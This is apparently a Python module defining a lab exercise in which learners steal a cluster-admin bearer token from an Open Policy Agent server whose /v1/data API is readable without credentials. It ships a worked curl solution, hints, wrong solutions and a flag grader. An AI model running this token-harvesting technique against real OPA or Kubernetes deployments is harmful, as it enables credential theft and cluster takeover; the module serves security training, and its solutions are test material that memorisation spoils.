"""Read the bearer token of a person whom only the reviewer knows."""

from __future__ import annotations

import json

from labkit.model.reviewers import PEOPLE
from labkit.workshop.definition import Exercise, Hint, Outcome, WrongSolution
from labkit.workshop.edited import EditedLab
from labkit.workshop.flags import check_flag

__all__ = ["EXERCISE"]

NAME = "delegation-1"
PERSON = "carol"
ADDRESS = "http://review:8181/v1/data/kubernetes"


def plant(lab: EditedLab, flag: str) -> None:
    """Give the reviewer one more person, whose token is the flag; a reset removes her."""
    listed = json.loads(lab.exec("review", ["cat", PEOPLE]).stdout)
    others = [one for one in listed["people"] if one["name"] != PERSON]
    listed["people"] = [*others, {"name": PERSON, "groups": ["system:masters"], "token": flag}]
    # tee keeps the file's owner and mode
    lab.exec("review", ["tee", PEOPLE], stdin=json.dumps(listed, indent=2).encode())
    lab.exec("review", ["systemctl", "restart", "opa"])


def check(lab: EditedLab, answer: object) -> Outcome:
    """Compare the answer with the flag."""
    return check_flag(lab, NAME, answer)


EXERCISE = Exercise(
    name=NAME,
    title="The reviewer knows every token",
    notebook="14-delegated-decisions",
    kind="attack",
    mode="hook-insecure",
    task=f"""
The reviewer has got one more person: {PERSON}, who is in `system:masters`. Nobody uses her token
now, so there is nothing to listen to on the wire, and you do not need to stand in the middle. Get
her token from the machine `attacker`, without a credential. The token is the flag: set `answer` to
it.

`insecure.exec("attacker", [...])` runs a command there; `curl` is installed. The reviewer is Open
Policy Agent on `review`, port 8181, with the REST API of its documentation (all of it below `/v1`).
""",
    hints=(
        Hint("That is a token, but whose? Each person of the answer has a name.", "wrong-answer"),
        Hint("A server that compares tokens has them. Who else does it let read its data?"),
        Hint("The apiserver asks below /v0/data. The REST API of OPA has /v1/data for data."),
        Hint("GET /v1/data returns all data, GET /v1/data/NAME a part of it. The answer is JSON."),
    ),
    check=check,
    solution=f"""
import json

curl = ["curl", "--silent", "http://review:8181/v1/data/people"]
people = json.loads(insecure.exec("attacker", curl).text)["result"]
answer = next(one["token"] for one in people if one["name"] == "{PERSON}")
""",
    wrong=(
        WrongSolution(
            "the token of the first person",
            """
import json

curl = ["curl", "--silent", "http://review:8181/v1/data/people"]
answer = json.loads(insecure.exec("attacker", curl).text)["result"][0]["token"]
""",
            "wrong-answer",
            "not the flag of delegation-1 in this lab",
        ),
        WrongSolution(
            "a review of a token that was guessed",
            f"""
import json

review = json.dumps({{"spec": {{"token": "{PERSON}"}}}})
curl = ["curl", "--silent", "--data", "@-", "{ADDRESS}/bearer"]
said = json.loads(insecure.exec("attacker", curl, stdin=review.encode()).text)
answer = said.get("result", {{}}).get("user", {{}}).get("token", "")
""",
            "no-answer",
            "there is no answer",
        ),
    ),
    techniques=(),
    plant=plant,
)
